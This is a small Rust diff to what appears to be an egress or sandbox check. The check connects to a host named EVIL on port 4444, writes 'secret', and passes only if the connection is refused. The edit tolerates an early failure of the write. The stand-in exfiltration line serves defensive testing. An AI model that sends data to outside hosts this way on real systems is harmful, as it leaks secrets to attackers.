@@ -169,8 +169,9 @@ impl Client {
             }
             _ => {
                 let mut stream = TcpStream::connect((EVIL, 4444)).await?;
-                stream.write_all(b"secret").await?;
-                has(stream.read(&mut [0; 9]).await.is_err())
+                // The refusal may be quicker than the job.
+                let said = stream.write_all(b"secret").await;
+                has(said.is_err() || stream.read(&mut [0; 9]).await.is_err())
             }
         }
     }
